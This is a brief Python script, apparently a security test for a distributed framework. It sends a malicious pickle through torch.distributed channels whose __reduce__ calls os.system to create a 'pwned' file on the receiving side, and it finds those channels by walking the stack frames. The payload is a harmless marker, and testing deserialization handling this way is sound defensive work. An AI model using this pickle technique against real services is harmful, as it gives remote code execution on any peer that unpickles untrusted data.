"""Sends a pickle in place of a frame, whose __reduce__ writes a file wherever it is unpickled."""

import os
import pickle
import sys

import torch.distributed as dist

TELLS = "MalformedMessage"


class Evil:
    def __reduce__(self):
        return os.system, ("touch '@FOLDER@/pwned'",)


def total(value):
    frame = sys._getframe()
    while "channel" not in frame.f_locals:
        if "rank" in frame.f_locals:
            frame.f_locals["rank"].send(b"O" + pickle.dumps(Evil()))
        frame = frame.f_back
    frame.f_locals["channel"].send(Evil())
    dist.barrier()
    return value
